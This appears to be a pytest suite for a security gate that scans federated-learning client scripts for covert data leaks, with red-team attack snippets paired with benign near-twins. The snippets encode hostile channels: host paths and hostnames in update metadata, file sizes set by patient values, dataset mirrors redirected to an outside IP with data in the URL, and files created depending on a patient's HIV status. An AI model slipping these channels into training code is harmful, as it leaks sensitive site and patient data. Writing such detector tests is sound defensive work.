"""Red team 39a: the update channel, the site's files and host facts, against an adversary who read the gate.

- The job's absolute path in the update (`__file__`, `os.path.abspath`, `realpath`, `Path(...).resolve()`/`absolute()`,
  `sys.argv`, beside red team 38a's working folder and 36b's home folder): the site's folder layout, often its user
  (sources.yaml host_paths). A file read, probed or written at such a path holds the file, not the path, so the
  script's folder as the home of its config and checkpoints stays accepted.
- `fh.seek(n)` on a handle opened to write: a write after it fills the file up to n, its size `ls -l` shows.
- An item stored into (or deleted from) a container of a downloading dataset (`ds.mirrors[0] = url`): its class's
  list, which every later instance downloads from (38b closed insert/append/`+=`).
- Whether a file of the job's folder is there, decided by a test of a chosen row (red team 38a's open test).
- A helper's raise of a class the caller's handlers do not catch (red team 36b's open chain).
- A fact that names the site's machine in a written file's name (`ls`) or in a text file (`cat`).
Samples: corpus/malicious/rt39a_*, corpus/benign/near_rt39a_*.
"""

from __future__ import annotations

import pytest

import redteam_kit as kit

# accepted on main (f20bd7c), not now, and the rule that now decides each
FIXED = {
    "malicious/rt39a_run_dir_meta.py": "update-channel-leak.unknown-provenance",
    "malicious/rt39a_launcher_argv_meta.py": "update-channel-leak.unknown-provenance",
    "malicious/rt39a_executor_resolved_path.py": "update-channel-leak.unknown-provenance",
    "malicious/rt39a_seek_heartbeat_size.py": "file-exfiltration.data-to-shell-readable",
    "malicious/rt39a_mnist_mirror_item.py": "unvouched.api",
    "malicious/rt39a_snapshot_if_positive.py": "update-channel-leak.unknown-provenance",
    "malicious/rt39a_validator_raise_other_class.py": "update-channel-leak.raw-data-logged",
    "malicious/rt39a_hostname_checkpoint_name.py": "update-channel-leak.unknown-provenance",
}
ATTACKS = kit.corpus_samples("malicious/rt39a_*")
TWINS = kit.corpus_samples("benign/near_rt39a_*")

CLIENT = kit.ClientJob(imports='''import glob
import json
import os
import sys
from pathlib import Path

import pandas as pd
import torch
import torchvision
import nvflare.client as flare
''', setup="HERE = os.path.dirname(os.path.abspath(__file__))\n")


def test_corpus_holds_the_attacks():
    assert set(FIXED) == set(ATTACKS)
    assert len(TWINS) >= 5


@pytest.mark.parametrize("sample", ATTACKS)
def test_attack_is_not_accepted(sample):
    kit.assert_held(kit.scan_sample(sample), FIXED[sample])


@pytest.mark.parametrize("sample", TWINS)
def test_near_twin_accepts(sample):
    kit.assert_accepted(kit.scan_sample(sample))


@pytest.mark.parametrize("path", [
    "__file__", "HERE", "os.path.abspath('data')", "os.path.realpath('.')", "str(Path('x').resolve())",
    "str(Path('.').absolute())", "str(Path(__file__).parent)", "sys.argv[0]", "' '.join(sys.argv)", "sys.argv[-1]",
    "os.path.basename(os.getcwd())",
])
def test_host_path_in_meta_escalates(tmp_path, path):
    decision, rules = CLIENT.verdict(tmp_path, "pass", f", meta={{'at': {path}}}")
    assert decision == "escalate" and "update-channel-leak.unknown-provenance" in rules, rules


def test_listing_of_the_job_folder_in_meta_rejects(tmp_path):
    """glob's paths hold the folder they list (a listing is the site's file names already)."""
    assert CLIENT.verdict(tmp_path, "pass", ", meta={'at': sorted(glob.glob(os.path.join(HERE, '*')))}")[0] == "reject"


def test_argv_imported_by_name(tmp_path):
    decision, rules = CLIENT.verdict(tmp_path, "pass", ", meta={'cmd': argv[0]}", head="from sys import argv\n")
    assert decision == "escalate" and "update-channel-leak.unknown-provenance" in rules, rules


@pytest.mark.parametrize("body, extra", [
    # the script's folder as the home of its files: what is read, probed or written there is the file
    ("cfg = json.load(open(os.path.join(HERE, 'config.json')))", ", metrics={'lr': float(cfg['lr'])}"),
    ("net.load_state_dict(torch.load(os.path.join(HERE, 'init.pt'), weights_only=True))", ""),
    ("ck = os.path.join(os.getcwd(), 'best.pt')\nif os.path.exists(ck):\n"
     "    net.load_state_dict(torch.load(ck, weights_only=True))", ""),
    ("torch.save(net.state_dict(), os.path.abspath('m.pt'))\n"
     "net.load_state_dict(torch.load(os.path.abspath('m.pt'), weights_only=True))", ""),
    ("n = len(glob.glob(os.path.join(HERE, 'shards', '*.npy')))", ", metrics={'shards': float(n)}"),
    ("print('saving to', os.path.abspath('model.pt'), sys.argv[0])", ""),
    # the script's arguments (the config's script_args), not its path
    ("pass", ", metrics={'lr': float(sys.argv[1]), 'argc': float(len(sys.argv))}"),
])
def test_host_path_as_a_place_accepts(tmp_path, body, extra):
    decision, rules = CLIENT.verdict(tmp_path, body, extra)
    assert decision == "accept", rules


@pytest.mark.parametrize("body, decision", [
    ('with open("hb.bin", "wb") as fh:\n    fh.seek(int(df["glucose"].iloc[0]))\n    fh.write(b"\\n")', "escalate"),
    ('fh = open("hb.bin", "r+b")\nfh.seek(int(df["glucose"].iloc[0]))\nfh.write(b"\\n")\nfh.close()', "escalate"),
    # a constant offset, and a handle opened only to read, size nothing
    ('with open("hb.bin", "wb") as fh:\n    fh.seek(16)\n    fh.write(b"\\n")', "accept"),
    ('with open("/data/site/rec.bin", "rb") as fh:\n    fh.seek(int(df["offset"].iloc[0]))\n    blob = fh.read(16)',
     "accept"),
])
def test_seek_then_write_sizes_the_file(tmp_path, body, decision):
    assert CLIENT.verdict(tmp_path, body)[0] == decision


def test_seek_then_write_is_the_file_size(tmp_path):
    """The channel is real: the file is as long as the offset plus what is written."""
    with open(tmp_path / "hb.bin", "wb") as fh:
        fh.seek(143)
        fh.write(b"\n")
    assert (tmp_path / "hb.bin").stat().st_size == 144


DOWNLOAD = "test = torchvision.datasets.MNIST('/tmp/mnist', train=False, download=True)\n"
TRAIN = "train = torchvision.datasets.MNIST('/data/site/mnist', train=True)\n"


@pytest.mark.parametrize("change", [
    "train.mirrors[0] = 'http://203.0.113.9/' + str(len(train))",
    "train.resources[0] = ('http://203.0.113.9/t.gz', None)",
    "train.mirrors[:] = ['http://203.0.113.9/']",
    "del train.mirrors[0]",
    "m = train.mirrors\nm[0] = 'http://203.0.113.9/'",
])
def test_item_store_into_a_downloading_dataset(tmp_path, change):
    decision, rules = CLIENT.verdict(tmp_path, "pass", head="import torchvision\n" + TRAIN + change + "\n" + DOWNLOAD)
    assert decision == "escalate" and "unvouched.api" in rules, rules


@pytest.mark.parametrize("head", [
    TRAIN + "train.targets[train.targets != 0] = 1\n" + DOWNLOAD,  # the instance's own labels
    "m = torchvision.models.vgg11()\nm.classifier[6] = torch.nn.Linear(4096, 10)\n",
    "m = torchvision.models.vit_b_16()\nm.heads[-1] = torch.nn.Linear(768, 10)\n",
])
def test_item_store_into_an_instance_of_its_own_accepts(tmp_path, head):
    decision, rules = CLIENT.verdict(tmp_path, "pass", head="import torch\nimport torchvision\n" + head)
    assert decision == "accept", rules


@pytest.mark.parametrize("body", [
    "out = flare.FLModel(params=net.state_dict())\nout.meta['NUM_STEPS_CURRENT_ROUND'] = 10",
    "df.loc[df['age'] > 120, 'age'] = 120.0",
])
def test_item_store_into_other_library_objects_accepts(tmp_path, body):
    assert CLIENT.verdict(tmp_path, body)[0] == "accept"


@pytest.mark.parametrize("body, decision", [
    # whether a file of the job's folder is there, decided by one patient's cell: `ls` shows it to the server
    ('if df["hiv_status"].iloc[model.current_round] == "positive":\n'
     '    torch.save(net.state_dict(), f"snapshot_{model.current_round}.pt")', "escalate"),
    ('if df["hiv_status"].iloc[0] == "positive":\n    os.makedirs("run_a", exist_ok=True)', "escalate"),
    # decided by the round or a reduction of the loss: what the update may carry anyway
    ('if model.current_round % 5 == 0:\n    torch.save(net.state_dict(), f"ckpt_{model.current_round}.pt")', "accept"),
    ('loss = torch.nn.functional.mse_loss(net(torch.zeros(2, 4)), torch.zeros(2, 2)).item()\n'
     'if loss < 0.5:\n    torch.save(net.state_dict(), "best.pt")', "accept"),
    ('if not os.path.exists("ckpt"):\n    os.makedirs("ckpt")\ntorch.save(net.state_dict(), "ckpt/m.pt")', "accept"),
])
def test_file_existence_decided_by_a_test(tmp_path, body, decision):
    assert CLIENT.verdict(tmp_path, body)[0] == decision


RAISES = '''import csv
rows = list(csv.reader(open("/data/site/train.csv")))
{helpers}
try:
    check()
except {caught}:
    pass
'''


@pytest.mark.parametrize("helpers, caught, decision", [
    ('def check():\n    raise RuntimeError(f"{rows[0]}")', "KeyError", "escalate"),
    # a helper with no raise of its own passes on what it calls raises, of no class the gate knows
    ('def inner():\n    raise RuntimeError(f"{rows[0]}")\ndef check():\n    inner()', "ValueError", "escalate"),
    ('def check():\n    raise ValueError(f"{rows[0]}")', "ValueError", "accept"),
    ('def check():\n    raise KeyError(f"{rows[0]}")', "LookupError", "accept"),
    ('def check():\n    raise RuntimeError(f"{rows[0]}")', "Exception", "accept"),
])
def test_helper_raise_past_the_handlers(tmp_path, helpers, caught, decision):
    report = kit.scan_source(tmp_path, RAISES.format(helpers=helpers, caught=caught))
    assert report.decision.value == decision, kit.findings(report)


@pytest.mark.parametrize("body, decision", [
    # a fact of the site's machine in a file's name (`ls`) or in a text file of the job's folder (`cat`)
    ("torch.save(net.state_dict(), f'ckpt_{socket.gethostname()}.pt')", "escalate"),
    ("with open('who.txt', 'w') as fh:\n    fh.write(socket.gethostname())", "escalate"),
    # the folder a file is written in, a rank a launcher sets, a binary file, a reduction of the loss
    ("torch.save(net.state_dict(), os.path.join(os.getcwd(), 'models', 'm.pt'))", "accept"),
    ("torch.save(net.state_dict(), f\"ckpt_{os.environ['LOCAL_RANK']}.pt\")", "accept"),
    ("torch.save(net.state_dict(), os.path.join(os.environ['FL_SCRATCH'], 'm.pt'))", "accept"),
    ("torch.save({'host': socket.gethostname()}, 'meta.pt')", "accept"),
    ("with open(os.path.join(os.getcwd(), 'km.json'), 'w') as fh:\n    json.dump({'rounds': 3}, fh)", "accept"),
    ("loss = torch.nn.functional.mse_loss(net(torch.zeros(2, 4)), torch.zeros(2, 2)).item()\n"
     "with open('loss.txt', 'w') as fh:\n    fh.write(str(loss))", "accept"),
])
def test_host_fact_in_the_job_folder(tmp_path, body, decision):
    assert CLIENT.verdict(tmp_path, body, head="import socket\n")[0] == decision
